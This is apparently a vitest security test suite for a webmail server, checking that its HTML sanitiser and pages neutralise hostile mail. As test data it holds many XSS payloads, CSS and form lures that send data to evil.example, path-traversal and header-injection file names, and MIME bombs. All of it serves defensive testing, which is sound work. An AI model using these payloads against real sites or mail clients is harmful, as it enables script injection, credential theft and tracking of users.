import { get } from 'node:http';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { cleanHtml } from '../../src/server/clean-html.ts';
import { eventually, type MailWorld, openMailWorld, openSmtp, sendMail, untilMail } from '../mail-world.ts';
import { listed, WebBrowser } from '../web-browser.ts';

let world: MailWorld;
let browser: WebBrowser;

beforeAll(async () => {
  world = await openMailWorld(184);
});

afterAll(() => world.end());

beforeEach(async () => {
  browser = new WebBrowser(world.crepes.host.address);
  await browser.logIn();
});

afterEach(async () => {
  const uids = listed((await browser.open('/folder/INBOX')).html);
  await browser.change('INBOX', { act: 'delete', uid: uids.map(String) });
});

/** Gives the path of the message. */
async function arrives(data: string): Promise<string> {
  const client = await openSmtp(world.crepes);
  expect(await sendMail(client, 'bob@hamburger.edu', ['alice@crepes.fr'], data)).toMatch(/^250/);
  client.drop();
  await untilMail(world.crepes, 'alice', 1);
  const [uid] = listed((await browser.open('/folder/INBOX')).html);
  return `/folder/INBOX/${uid}`;
}

function htmlMail(html: string): string {
  return `Subject: x\r\nFrom: bob@hamburger.edu\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}`;
}

const PICTURES = (contentId: string) => (contentId === 'known@x' ? '/picture/known' : null);

test.each([
  ['a script', '<script>alert(1)</script>hello'],
  ['a script in pieces', '<scr<script>ipt>alert(1)</scr</script>ipt>hello'],
  ['an event handler', '<p onclick="alert(1)" onmouseover=alert(2)>hello</p>'],
  ['a picture that fails', '<img src=x onerror=alert(1)>hello'],
  ['javascript: in a link', '<a href="javascript:alert(1)">hello</a>'],
  ['javascript: that hides', '<a href=" java&#x0A;script:alert(1)">hello</a><a href="JaVaScRiPt&colon;alert(1)">x</a>'],
  ['data: in a link', '<a href="data:text/html,<script>alert(1)</script>">hello</a>'],
  ['vbscript:', '<a href="vbscript:msgbox(1)">hello</a>'],
  ['SVG', '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"></a></svg>hello'],
  ['SVG as data', '<img src="data:image/svg+xml,<svg onload=alert(1)>">hello'],
  ['MathML', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>hello'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=http://evil.example/">hello'],
  ['a base', '<base href="http://evil.example/">hello'],
  ['a form', '<form action="http://evil.example/"><input name=password><button>log in</button></form>hello'],
  ['frames and objects', '<iframe src="http://evil.example/"></iframe><object data="x"></object><embed src="x">hello'],
  [
    'a style sheet',
    '<style>@import "http://evil.example/x.css"; body{background:url(http://evil.example/y)}</style>hello',
  ],
  ['a link to a style sheet', '<link rel=stylesheet href="http://evil.example/x.css">hello'],
  ['CSS that fetches', '<p style="background:url(http://evil.example/x);color:red">hello</p>'],
  ['CSS that fetches under cover', '<p style="background-image:u\\72l(http://evil.example/x)">hello</p>'],
  ['CSS that runs', '<p style="width:expression(alert(1));behavior:url(x)">hello</p>'],
  ['CSS that tells letters', '<style>input[value^="a"]{background:url(http://evil.example/a)}</style>hello'],
  ['a picture from elsewhere', '<img src="http://evil.example/pixel.png">hello'],
  ['a picture without a scheme', '<img src="//evil.example/pixel.png">hello'],
  ['a picture of ours', '<img src="/logout"><img src="/folder/INBOX/1/raw">hello'],
  [
    'a set of pictures',
    '<img srcset="http://evil.example/a.png 1x" src="cid:none"><picture><source srcset="http://evil.example/b.png"></picture>hello',
  ],
  ['a background', '<table background="http://evil.example/x.png"><tr><td>hello</td></tr></table>'],
  [
    'video and audio',
    '<video src="http://evil.example/v" poster="http://evil.example/p"></video><audio src="http://evil.example/a"></audio>hello',
  ],
  ['a comment that opens', '<!--[if IE]><script>alert(1)</script><![endif]--><!--><script>alert(1)</script>-->hello'],
  ['a noscript that closes', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>hello'],
  ['an attribute that breaks out', '<img alt="x\'&quot;><script>alert(1)</script>" src="cid:none">hello'],
  ['an id of ours', '<p id="main" class="alarm" name="token">hello</p>'],
])('HTML with %s: nothing of it runs or fetches, and what it says is there', async (_what, hostile) => {
  const { html } = await cleanHtml(hostile, PICTURES);
  expect(html).toContain('hello');
  expect(html).not.toMatch(
    /<(?:script|svg|math|meta|base|form|input|button|iframe|object|embed|style|link|video|audio|source|picture|noscript)\b/i,
  );
  expect(html).not.toMatch(/<[^>]*\s(?:on\w+|srcset|background|poster|id|class|name|action)\s*=/i);
  expect(html).not.toMatch(/<[^>]*(?:javascript|vbscript|expression|url\s*\(|\\72)/i);
  for (const [, address = ''] of html.matchAll(/<img[^>]*\ssrc="([^"]*)"/g)) expect(address).toBe('/picture/known');
  for (const [, address = ''] of html.matchAll(/\shref="([^"]*)"/g)) expect(address).toMatch(/^(?:https?:|mailto:|$)/);
});

test('what HTML is for is kept: text, tables, colours, links and the pictures of the message', async () => {
  const given =
    '<h1 style="color:#1f4e79">Menu</h1><table border="1"><tr><td align="right" style="padding:4px">Crepe</td></tr></table><a href="https://x.example/a?b=c&d">more</a><img src="cid:known%40x" alt="menu">';
  const { html, blocked } = await cleanHtml(given, PICTURES);
  expect(html).toContain('<h1 style="color:#1f4e79">Menu</h1>');
  expect(html).toContain('<td align="right" style="padding:4px">Crepe</td>');
  expect(html).toMatch(/<a[^>]* href="https:\/\/x\.example\/a\?b=c&amp;d"[^>]* rel="noopener noreferrer nofollow"/);
  expect(html).toContain('src="/picture/known"');
  expect(blocked).toEqual([]);
});

test('a megabyte of open elements is bounded', async () => {
  const { html } = await cleanHtml('<div>'.repeat(200_000), PICTURES);
  expect(html.length).toBeLessThan(2_000_000);
});

test('tags without end are no work without end: behind the last that is looked at nothing is shown', async () => {
  const { html } = await cleanHtml(`<p>first</p>${'<b><i>'.repeat(50_000)}<p>last</p>`, PICTURES);
  expect(html).toContain('first');
  expect(html).not.toContain('last');
});

test('a link says in its title where it leads, as a browser reads its address; one that leads nowhere is none', async () => {
  const bank = 'title="https://bank.example/"';
  const { html, blocked } = await cleanHtml(
    `<a href=" https://evil.example/" ${bank}>1</a><a href="ht\ntps://evil.example/" ${bank}>2</a><a href="/logout" ${bank}>3</a><a name=x>4</a><img src="ht\ttp://evil.example/p"><img src=" CID:known@x">`,
    PICTURES,
  );
  expect(html).not.toContain('bank');
  expect(html.match(/href="https:\/\/evil.example\/" title="https:\/\/evil.example\/"/g)).toHaveLength(2);
  expect(html).toContain('<span>3</span><span>4</span>');
  expect(html).toContain('<img src="/picture/known" />');
  expect(blocked).toEqual(['http://evil.example/p']);
});

test('HTML mail is shown in a frame without scripts and with a policy of its own; what it would fetch is named', async () => {
  const path = await arrives(
    htmlMail(
      '<h1>hi</h1><script>alert(1)</script><img src="http://evil.example/x.png"><p style="background:url(http://evil.example/y)">',
    ),
  );
  const page = (await browser.open(path)).html;
  expect(page).toMatch(/<iframe class="html" sandbox="allow-popups allow-popups-to-escape-sandbox" src="[^"]+\/html"/);
  expect(page).not.toContain('<h1>hi</h1>');
  expect(page).toContain('<li><code>http://evil.example/x.png</code></li>');
  expect(page).toContain('<li><code>http://evil.example/y</code></li>');
  const frame = await browser.open(`${path}/html`);
  expect(frame.html).toContain('<h1>hi</h1>');
  expect(frame.html).not.toMatch(/evil\.example\/y|<script/);
  const policy = String(frame.fields['content-security-policy']);
  expect(policy).toMatch(
    /^default-src 'none'; img-src http:\/\/mail\.crepes\.fr\/picture\/[\w-]+\/[\w-]+\/ data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'; frame-ancestors 'self'; sandbox allow-popups allow-popups-to-escape-sandbox$/,
  );
  expect(policy).not.toMatch(/script-src|allow-scripts|allow-same-origin/);
});

test('XSS: what a subject, a sender, a field, a text and a file name contain is text on every page', async () => {
  const evil = `<script>alert(1)</script><img src=x onerror=alert(1)>"'&`;
  const path = await arrives(
    `From: "${evil.replace(/"/g, '\\"')}" <bob@hamburger.edu>\r\nSubject: ${evil}\r\nX-A: ${evil}\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n${evil}</div></textarea>\r\n--b\r\nContent-Type: application/octet-stream; name="${evil.replace(/"/g, '\\"')}"\r\n\r\nx\r\n--b--`,
  );
  const uid = path.split('/').at(-1);
  const pages = [
    '/folder/INBOX',
    path,
    `${path}/source`,
    `${path}/octets`,
    `/compose?all=${uid}&folder=INBOX`,
    `/compose?forward=${uid}&folder=INBOX`,
  ];
  for (const page of [...pages, `/folder/INBOX?q=${encodeURIComponent(evil)}`]) {
    const { html } = await browser.open(page);
    expect(html, page).not.toMatch(/<script>|<img src=x|onerror=alert\(1\)>|<\/textarea>[^<\s]/);
    if (page !== `${path}/octets`) expect(html, page).toMatch(/&#60;script&#62;/);
  }
});

test.each([
  ['../../../etc/passwd', 'passwd'],
  ['..\\..\\boot.ini', 'boot.ini'],
  ['a\u202egpj.exe', 'agpj.exe'],
  ['=?utf-8?Q?x=0D=0ASet-Cookie:_evil=3D1?=', 'xSet-Cookie_ evil=1'],
  ['"; filename="evil.exe', '__ filename=_evil.exe'],
  ['', 'part-1'],
])('a file with the name %j is kept under %j, as octets that no browser runs', async (given, safe) => {
  const name = given.replace(/["\\]/g, '\\$&');
  const path = await arrives(
    Buffer.from(
      `Subject: x\r\nContent-Type: text/html; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n<script>alert(1)</script>`,
      'utf8',
    ).toString('latin1'),
  );
  const { fields, html } = await browser.open(`${path}/part/1`);
  const expected = safe === 'part-1' ? 'part-1.html' : safe;
  expect(decodeURIComponent(/filename\*=UTF-8''(.*)$/.exec(String(fields['content-disposition']))?.[1] ?? '')).toBe(
    expected,
  );
  expect(fields).toMatchObject({
    'content-type': 'application/octet-stream',
    'content-disposition': expect.stringMatching(/^attachment; /),
    'content-security-policy': "default-src 'none'; sandbox",
    'x-content-type-options': 'nosniff',
  });
  expect(fields['set-cookie']).toBeUndefined();
  expect(html).toContain('<script>');
});

test.each(['image/svg+xml', 'text/html', 'application/xhtml+xml', 'text/xml', 'application/javascript', 'text/css'])(
  'an attachment of type %s is octets to the browser',
  async (type) => {
    const path = await arrives(
      `Subject: x\r\nContent-Type: ${type}\r\nContent-Disposition: attachment\r\nContent-ID: <p@x>\r\n\r\n<svg onload="alert(1)"/>`,
    );
    expect((await browser.open(`${path}/part/1`)).fields['content-type']).toBe('application/octet-stream');
  },
);

test.each([
  ['100,000 header fields', `${'X: y\r\n'.repeat(30_000)}\r\nx`],
  [
    'a thousand levels',
    `${Array.from({ length: 1_000 }, (_, n) => `Content-Type: multipart/mixed; boundary=b${n}\r\n\r\n--b${n}\r\n`).join('')}x`,
  ],
  ['ten thousand parts', `Content-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\n\r\nx\r\n'.repeat(10_000)}`],
  ['words without end', `Subject: ${'=?utf-8?B?7JWI?='.repeat(1_000)}\r\n\r\nx`],
])('a bomb of %s leaves the webmail up, and every page of it in bounds', async (_what, bomb) => {
  const path = await arrives(bomb);
  for (const page of ['/folder/INBOX', path, `${path}/source`, `${path}/octets`, `${path}/raw`]) {
    const { status, octets } = await browser.open(page);
    expect(status, page).toBe(200);
    expect(octets.length, page).toBeLessThan(2_000_000);
  }
});

test('news: a browser that listens is told of a new message, and only of its own', async () => {
  const listen = (cookie: string) => {
    const heard = { text: '', type: '', end: () => {} };
    const headers = { host: 'mail.crepes.fr', cookie };
    const asking = get(
      { host: world.crepes.host.address, port: 80, path: '/news?folder=INBOX', headers, agent: false },
      (response) => {
        heard.type = String(response.headers['content-type']);
        response.on('data', (piece: Buffer) => {
          heard.text += piece.toString();
        });
        response.on('error', () => {});
      },
    );
    asking.on('error', () => {});
    heard.end = () => asking.destroy();
    return heard;
  };
  const claire = new WebBrowser(world.crepes.host.address);
  await claire.logIn({ user: 'claire', password: 'fontaine' });
  const hears = listen(`session=${browser.cookies.get('session')}`);
  const hearsNot = listen(`session=${claire.cookies.get('session')}`);
  await eventually(() => hears.text.includes('retry:') && hearsNot.text.includes('retry:'), 'the streams');
  expect(hears.type).toBe('text/event-stream; charset=utf-8');
  await arrives('Subject: news\r\n\r\nx');
  await eventually(() => hears.text.includes('"arrived":1'), 'the news');
  expect(hears.text).toMatch(/event: state\ndata: \{"state":"[\d. ]+"\}/);
  expect(hearsNot.text).not.toContain('event: change');
  hears.end();
  hearsNot.end();
});

test('browsers of one user that listen are bounded', async () => {
  const streams: { destroy(): void }[] = [];
  const statuses: number[] = [];
  const headers = { host: 'mail.crepes.fr', cookie: `session=${browser.cookies.get('session')}` };
  for (let count = 0; count < 12; count += 1) {
    const asking = get(
      { host: world.crepes.host.address, port: 80, path: '/news', headers, agent: false },
      (response) => {
        statuses.push(response.statusCode ?? 0);
        response.on('error', () => {});
      },
    );
    asking.on('error', () => {});
    streams.push(asking);
    await eventually(() => statuses.length === count + 1, 'an answer');
  }
  expect(statuses).toEqual([...Array.from({ length: 10 }, () => 200), 503, 503]);
  for (const stream of streams) stream.destroy();
});
